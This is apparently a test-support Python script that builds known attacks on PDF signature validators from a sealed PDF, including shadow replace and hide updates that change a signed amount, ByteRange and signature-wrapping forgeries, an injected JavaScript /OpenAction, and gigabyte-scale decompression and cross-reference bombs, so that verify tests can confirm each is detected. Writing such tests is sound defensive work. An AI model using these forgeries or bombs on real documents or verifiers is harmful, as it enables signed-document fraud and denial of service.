#!/usr/bin/env python3
# tests/verify/pdf_attack.py: builds the known attacks on PDF signature validators from a genuinely sealed PDF,
# so the verify tests can check that each one is reported (never passes). Uses qpdf only to read object text.
#
# usage: pdf_attack.py MODE IN.pdf OUT.pdf
#   flip            flip one byte inside the first signed range (inside a stream body)
#   shadow-replace  incremental update that replaces page 1's content stream (incremental saving / shadow replace)
#   shadow-hide     incremental update adding a FreeText annotation over page 1 (shadow hide)
#   form-value      incremental update changing a catalog entry (/OpenAction) after sealing
#   shadow-font     incremental update overriding an object the signed page only references (its font), the
#                   "replace" shadow attack through a resource rather than the content stream
#   byterange       rewrite /ByteRange in place so it no longer encloses /Contents (same length, offsets kept)
#   byterange-usf   rewrite /ByteRange in place to [0 0 0 0] (universal signature forgery)
#   contents-moved  incremental update redefining the signature dictionary with its /Contents value outside
#                   the ByteRange gap (signature wrapping)
#   no-contents     incremental update redefining the signature dictionary without /Contents (USF)
#   size-shrink     shadow-replace with the final trailer's /Size set to 1 (a verifier that compares objects up to
#                   the final /Size, which the attacker writes, compares none)
#   stream-dict     incremental update adding /Decode [1 0 1 0 1 0] to the first image XObject (a visible seal's
#                   stamp): the stream's data are unchanged, its dictionary inverts the picture
#   dss-fanout      incremental update adding a /DSS whose /Certs names the page's content stream and font,
#                   redefined as arrays of 3000 references to each other (a verifier walking DSS data without a
#                   visited set or budget never finishes)
#   gen1-prepare    (not an attack: makes the file to seal) an update adding a content stream to page 1 as
#                   object N generation 1, with the text of argument 4 (default "Amount: 1,000 JPY")
#   gen1-redefine   incremental update redefining that generation-1 content stream (found as 'N 1 obj')
#   gen1-renumber   incremental update writing a new content stream as 'N 0 obj' (the number of that generation-1
#                   object): QPDF and Poppler still read 'N 1 R' as signed, Ghostscript draws the new one
#   dangling-prepare  (not an attack: makes the file to seal) page 1's /Contents also names an object that is
#                   not defined (a reader draws nothing for it)
#   dangling-define incremental update defining that object (found as the last reference in page 1's /Contents)
# Decompression bombs (argument 4: the decoded size in MiB, where a default is given):
#   dss-bomb        incremental update adding a /DSS whose /CRLs holds one FlateDecode stream of zeros (1024 MiB,
#                   about 1 MB in the file)
#   dss-bomb-refs   incremental update adding a /DSS whose /Certs, /OCSPs and /CRLs name one bomb of zeros (64 MiB)
#                   30 times
#   objstm-bomb     incremental update, with a cross-reference stream, moving the catalog into an object stream
#                   whose data go on with zeros after it (1024 MiB): a reader decodes it all to find the catalog
#   objstm-bomb-prepare  the same on a file not sealed (the input of a seal)
#   objstm-string-prepare  (on a file not sealed) the catalog and a string of zeros (12 MiB) it names as /Bomb,
#                   moved into a FlateDecode object stream: what `qpdf --object-streams=generate --encrypt` keeps in
#                   an object stream, encrypted
#   objstm-tokens   incremental update, with a cross-reference stream, moving the catalog into an object stream with
#                   a /Bomb array of zeros (argument 4: thousands of them, default 3900: 7.8 MB, under the size caps,
#                   from about 8 kB): a reader keeps each number as an object of its own
#   xref-bomb       incremental update whose cross-reference stream holds its entries, then zeros (1024 MiB)
#   xref-entries    incremental update whose cross-reference stream holds 10,000,000 entries (zeros: free entries,
#                   70 kB in the file; a reader keeps each one)
import re
import struct
import subprocess
import sys
import zlib


def qpdf_run(*args):
    """qpdf's output; exit status 3 (warnings, e.g. a reference to an undefined object) is not an error."""
    p = subprocess.run(["qpdf"] + list(args), capture_output=True)
    if p.returncode not in (0, 3):
        raise subprocess.CalledProcessError(p.returncode, p.args, p.stdout, p.stderr)
    return p.stdout


def qpdf_obj(path, spec):
    return qpdf_run("--show-object=" + spec, path).decode("latin-1").strip()


def last_startxref(data):
    m = list(re.finditer(rb"startxref\s+(\d+)", data))
    return int(m[-1].group(1))


def sig_object_id(path):
    # the first signature dictionary: the object holding a /ByteRange
    data = open(path, "rb").read()
    m = re.search(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange", data, re.S)
    return int(m.group(1))


def page1(path):
    out = qpdf_run("--show-pages", path).decode()
    page = int(re.search(r"page 1: (\d+) 0 R", out).group(1))
    content = int(re.search(r"content:\s+(\d+) 0 R", out).group(1))
    return page, content


def append_update(data, path, objects, extra_trailer=b"", size=None):
    """objects: {id or (id, generation): bytes body (without 'N G obj'/'endobj')}; writes a classic xref section
    with /Prev. size: the trailer's /Size (default: what the objects need)."""
    trailer = qpdf_obj(path, "trailer")
    old_size = int(re.search(r"/Size (\d+)", trailer).group(1))
    root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
    objects = {(k if isinstance(k, tuple) else (k, 0)): v for k, v in objects.items()}
    new_size = size if size is not None else max([old_size] + [i + 1 for i, _ in objects])
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for oid, gen in sorted(objects):
        offsets[oid, gen] = len(out)
        out += b"%d %d obj\n" % (oid, gen) + objects[oid, gen] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for oid, gen in sorted(objects):
        out += b"%d 1\n%010d %05d n \n" % (oid, offsets[oid, gen], gen)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size, root.encode(), last_startxref(data), extra_trailer, xref)
    return bytes(out)


BYTERANGE_BLANK = b"/ByteRange [0 0000000000 0000000000 0000000000]"


def placeholder(size):
    """A signature dictionary's /ByteRange and /Contents, for size bytes of CMS, before the offsets are known."""
    return BYTERANGE_BLANK + b" /Contents <" + b"0" * (2 * size) + b">"


def fix_byte_range(out, sig_id, size):
    """Writes the real /ByteRange of signature object sig_id into out (a bytearray made with placeholder(size));
    returns (a, b): the offsets of the /Contents '<' and just past its '>', i.e. the gap the CMS goes in."""
    start = out.index(b"%d 0 obj\n" % sig_id)
    a = out.index(b"/Contents <", start) + len(b"/Contents ")
    b = a + 2 * size + 2
    pos = out.index(BYTERANGE_BLANK, start)
    out[pos:pos + len(BYTERANGE_BLANK)] = b"/ByteRange [0 %010d %010d %010d]" % (a, b, len(out) - b)
    return a, b


def text_stream(text):
    return b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"


def first_image(path):
    """The object number of the first image XObject (qpdf's JSON lists every object)."""
    import json
    objs = json.loads(subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", path], check=True,
                                     capture_output=True).stdout)["qpdf"][1]
    for key, val in sorted(objs.items(), key=lambda kv: int(kv[0].split()[0].split(":")[-1])
                           if kv[0].startswith("obj:") else 0):
        d = val.get("stream", {}).get("dict", {}) if isinstance(val, dict) else {}
        if d.get("/Subtype") == "/Image":
            return int(key.split(":")[1].split()[0])
    sys.exit("no image XObject in " + path)


def zeros_zlib(n, prefix=b"", chunk=1 << 24):
    """zlib data of prefix + n zero bytes, made in about a second for 1 GiB: after a full flush deflate restarts
    from an empty window, so every chunk of zeros compresses to the same bytes, repeated here."""
    c = zlib.compressobj(9)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    body = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    rest = b""
    if n % chunk:
        c = zlib.compressobj(9)
        rest = (c.compress(bytes(n % chunk)) + c.flush(zlib.Z_FULL_FLUSH))[2:]  # (without its zlib header)
    adler = zlib.adler32(prefix)
    lo, hi = adler & 0xffff, ((adler >> 16) + n * (adler & 0xffff)) % 65521  # zeros leave the low sum as it is
    # an empty final fixed-Huffman block, then the checksum
    return head + body * (n // chunk) + rest + b"\x03\x00" + struct.pack(">I", hi << 16 | lo)


def mib(default):
    return (int(sys.argv[4]) if len(sys.argv) > 4 else default) << 20


def bomb_stream(n):
    z = zeros_zlib(n)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(z) + z + b"\nendstream"


def add_dss(data, src, refs_of):
    """An update adding /DSS to the catalog; refs_of(dss_number) gives {objects} and the DSS dictionary body."""
    trailer = qpdf_obj(src, "trailer")
    root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
    dss = int(re.search(r"/Size (\d+)", trailer).group(1))
    cat = qpdf_obj(src, str(root)).encode("latin-1")
    objects, body = refs_of(dss)
    objects[root] = cat[:-2] + b" /DSS %d 0 R >>" % dss
    objects[dss] = body
    return append_update(data, src, objects)


def append_stream_update(data, path, objects, objstm=None, rows_tail=None, index=None):
    """An update whose section is a cross-reference stream (W [1 4 2], with /Prev). objects: {id: body} written
    as usual; objstm: (id, {id: text}, zeros) an object stream holding those objects, its data followed by that many
    zero bytes; rows_tail: zero bytes after the entries; index: the /Index to declare instead (its data then are
    zeros only)."""
    trailer = qpdf_obj(path, "trailer")
    size = int(re.search(r"/Size (\d+)", trailer).group(1))
    root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    entries = {}
    for oid in sorted(objects):
        entries[oid] = (1, len(out), 0)
        out += b"%d 0 obj\n" % oid + objects[oid] + b"\nendobj\n"
    if objstm is not None:
        sid, inner, zeros = objstm
        heads, texts, pos = [], b"", 0
        for k, oid in enumerate(sorted(inner)):
            heads.append(b"%d %d" % (oid, pos))
            texts += inner[oid] + b"\n"
            pos = len(texts)
            entries[oid] = (2, sid, k)
        head = b" ".join(heads) + b"\n"
        z = zeros_zlib(zeros, head + texts)
        entries[sid] = (1, len(out), 0)
        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                % (sid, len(inner), len(head), len(z)) + z + b"\nendstream\nendobj\n")
    xid = max([size] + [i + 1 for i in entries])
    entries[xid] = (1, len(out), 0)
    rows = b"".join(struct.pack(">BIH", *entries[i]) for i in sorted(entries))
    if index is None:
        index = b" ".join(b"%d 1" % i for i in sorted(entries))
        z = zeros_zlib(rows_tail, rows) if rows_tail else zlib.compress(rows)
    else:
        z = zeros_zlib(7 * sum(int(n) for n in index.split()[1::2]))
    xref = len(out)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %s /Prev %d /W [1 4 2] /Index [%s] /Filter /FlateDecode "
            b"/Length %d >>\nstream\n" % (xid, xid + 1, root.encode(), last_startxref(data), index, len(z))
            + z + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return bytes(out)


def catalog_in_objstm(data, src, zeros, string=0, numbers=0):
    """The catalog moved into an object stream followed by zeros; with string, also a string of that many zeros the
    catalog names as /Bomb; with numbers, a /Bomb array of that many zeros in the catalog."""
    trailer = qpdf_obj(src, "trailer")
    root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
    sid = int(re.search(r"/Size (\d+)", trailer).group(1))
    cat = qpdf_obj(src, str(root)).encode("latin-1")
    extra = b" /Bomb %d 0 R" % (sid + 1) if string else b" /Bomb [" + b"0 " * numbers + b"]" if numbers else b""
    inner = {root: cat[:-2] + extra + b" >>"}
    if string:
        inner[sid + 1] = b"(" + bytes(string) + b")"
    return append_stream_update(data, src, {}, objstm=(sid, inner, zeros))


def byte_range(data):
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    return m, [int(x) for x in m.groups()]


def main():
    mode, src, dst = sys.argv[1:4]
    data = open(src, "rb").read()
    m, br = byte_range(data) if not mode.endswith("-prepare") else (None, None)
    if mode == "flip":
        pos = data.index(b"stream", 0, br[1]) + 20
        assert pos < br[1]
        data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1:]
    elif mode in ("byterange", "byterange-usf"):
        old = m.group(0)
        if mode == "byterange":
            new = b"/ByteRange [0 %d %d %d]" % (br[1] + 2, br[2] + 2, br[3] - 2)
        else:
            new = b"/ByteRange [0 0 0 0]"
        assert len(new) <= len(old)
        new = new[:-1] + b" " * (len(old) - len(new)) + b"]"
        data = data[:m.start()] + new + data[m.end():]
    elif mode in ("shadow-replace", "size-shrink"):
        _, content = page1(src)
        text = b"BT /F1 24 Tf 40 60 Td (AMOUNT: 9,999,999 JPY) Tj ET"
        data = append_update(data, src, {content: text_stream(text)}, size=1 if mode == "size-shrink" else None)
    elif mode == "stream-dict":
        img = first_image(src)
        head = qpdf_obj(src, str(img)).encode("latin-1")
        head = head[head.index(b"<<"):]  # qpdf says "Object is stream.  Dictionary:" first
        raw = subprocess.run(["qpdf", "--show-object=%d" % img, "--raw-stream-data", src], check=True,
                             capture_output=True).stdout
        assert head.endswith(b">>") and b"/Decode" not in head
        body = head[:-2] + b" /Decode [1 0 1 0 1 0] >>\nstream\n" + raw + b"\nendstream"
        data = append_update(data, src, {img: body})
    elif mode == "dss-fanout":
        page, content = page1(src)
        res = re.search(r"/Resources (\d+) 0 R", qpdf_obj(src, str(page)))
        res_text = qpdf_obj(src, res.group(1)) if res else qpdf_obj(src, str(page))
        font = int(re.search(r"/Font << /[^ ]+ (\d+) 0 R", res_text).group(1))
        trailer = qpdf_obj(src, "trailer")
        root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
        dss = int(re.search(r"/Size (\d+)", trailer).group(1))
        cat = qpdf_obj(src, str(root)).encode("latin-1")
        cat = cat[:-2] + b" /DSS %d 0 R >>" % dss
        data = append_update(data, src, {root: cat, dss: b"<< /Type /DSS /Certs [ %d 0 R ] >>" % content,
                                         content: b"[" + b" %d 0 R" % font * 3000 + b" ]",
                                         font: b"[" + b" %d 0 R" % content * 3000 + b" ]"})
    elif mode == "dangling-prepare":
        page, content = page1(src)
        n = int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1))
        pdict = qpdf_obj(src, str(page)).encode("latin-1")
        old = b"/Contents %d 0 R" % content
        assert old in pdict
        # (well past /Size, so that the sealer does not take the number for an object of its own)
        data = append_update(data, src, {page: pdict.replace(old, b"/Contents [ %d 0 R %d 0 R ]" % (content, n + 50))})
    elif mode == "dangling-define":
        page, _ = page1(src)
        n = int(re.search(rb"/Contents \[[^\]]* (\d+) 0 R \]", qpdf_obj(src, str(page)).encode()).group(1))
        text = b"BT /F1 24 Tf 72 600 Td (Amount: 9,999,999 JPY) Tj ET"
        data = append_update(data, src, {n: text_stream(text)})
    elif mode == "gen1-prepare":
        page, content = page1(src)
        n = int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1))
        pdict = qpdf_obj(src, str(page)).encode("latin-1")
        old = b"/Contents %d 0 R" % content
        assert old in pdict
        pdict = pdict.replace(old, b"/Contents [ %d 0 R %d 1 R ]" % (content, n))
        text = sys.argv[4].encode() if len(sys.argv) > 4 else b"Amount: 1,000 JPY"
        data = append_update(data, src, {page: pdict, (n, 1): text_stream(b"BT /F1 24 Tf 72 600 Td (%s) Tj ET" % text)})
    elif mode in ("gen1-redefine", "gen1-renumber"):
        n = int(re.findall(rb"(\d+) 1 obj", data)[0])
        text = b"BT /F1 24 Tf 72 600 Td (Amount: 9,999,999 JPY) Tj ET"
        data = append_update(data, src, {(n, 1 if mode == "gen1-redefine" else 0): text_stream(text)},
                             size=int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1)))
    elif mode == "shadow-hide":
        page, _ = page1(src)
        pdict = qpdf_obj(src, str(page)).encode("latin-1")
        trailer = qpdf_obj(src, "trailer")
        annot_id = int(re.search(r"/Size (\d+)", trailer).group(1))
        annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 600 200] /Contents (covered) /DA (/Helv 12 Tf 0 g) "
                 b"/F 4 /P %d 0 R >>" % page)
        am = re.search(rb"/Annots \[([^\]]*)\]", pdict)
        if am:
            pdict = pdict[:am.start()] + b"/Annots [" + am.group(1) + b" %d 0 R]" % annot_id + pdict[am.end():]
        else:
            pdict = pdict[:-2] + b" /Annots [%d 0 R] >>" % annot_id
        data = append_update(data, src, {page: pdict, annot_id: annot})
    elif mode == "shadow-font":
        page, _ = page1(src)
        res = re.search(r"/Resources (\d+) 0 R", qpdf_obj(src, str(page)))
        res_text = qpdf_obj(src, res.group(1)) if res else qpdf_obj(src, str(page))
        font = int(re.search(r"/Font << /[^ ]+ (\d+) 0 R", res_text).group(1))
        fdict = qpdf_obj(src, str(font)).encode("latin-1")
        fdict = re.sub(rb"/BaseFont /[^ /]+", b"/BaseFont /Courier", fdict, count=1)
        data = append_update(data, src, {font: fdict})
    elif mode == "form-value":
        trailer = qpdf_obj(src, "trailer")
        root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
        cat = qpdf_obj(src, str(root)).encode("latin-1")
        cat = cat[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert\\('changed'\\)) >> >>"
        data = append_update(data, src, {root: cat})
    elif mode in ("contents-moved", "no-contents"):
        sid = sig_object_id(src)
        sdict = qpdf_obj(src, str(sid)).encode("latin-1")
        cm = re.search(rb"/Contents <([0-9a-fA-F]*)>", sdict)
        if mode == "contents-moved":
            # Same ByteRange; the value a reader takes is a different (zeroed) string placed after the gap.
            fake = b"0" * len(cm.group(1))
            sdict = sdict[:cm.start()] + b"/Contents <" + fake + b">" + sdict[cm.end():]
        else:
            sdict = sdict[:cm.start()] + sdict[cm.end():]
        data = append_update(data, src, {sid: sdict})
    elif mode == "dss-bomb":
        data = add_dss(data, src, lambda dss: ({dss + 1: bomb_stream(mib(1024))},
                                               b"<< /Type /DSS /CRLs [%d 0 R] >>" % (dss + 1)))
    elif mode == "dss-bomb-refs":
        data = add_dss(data, src, lambda dss: ({dss + 1: bomb_stream(mib(64))},
                                               b"<< /Type /DSS /Certs [%s] /OCSPs [%s] /CRLs [%s] >>"
                                               % ((b" %d 0 R" % (dss + 1) * 10,) * 3)))
    elif mode in ("objstm-bomb", "objstm-bomb-prepare"):
        data = catalog_in_objstm(data, src, mib(1024))
    elif mode == "objstm-string-prepare":
        data = catalog_in_objstm(data, src, 0, mib(12))
    elif mode == "objstm-tokens":
        data = catalog_in_objstm(data, src, 0, numbers=1000 * (int(sys.argv[4]) if len(sys.argv) > 4 else 3900))
    elif mode == "xref-bomb":
        data = append_stream_update(data, src, {}, rows_tail=mib(1024))
    elif mode == "xref-entries":
        data = append_stream_update(data, src, {}, index=b"0 10000000")
    else:
        sys.exit("unknown mode " + mode)
    open(dst, "wb").write(data)


if __name__ == "__main__":
    main()
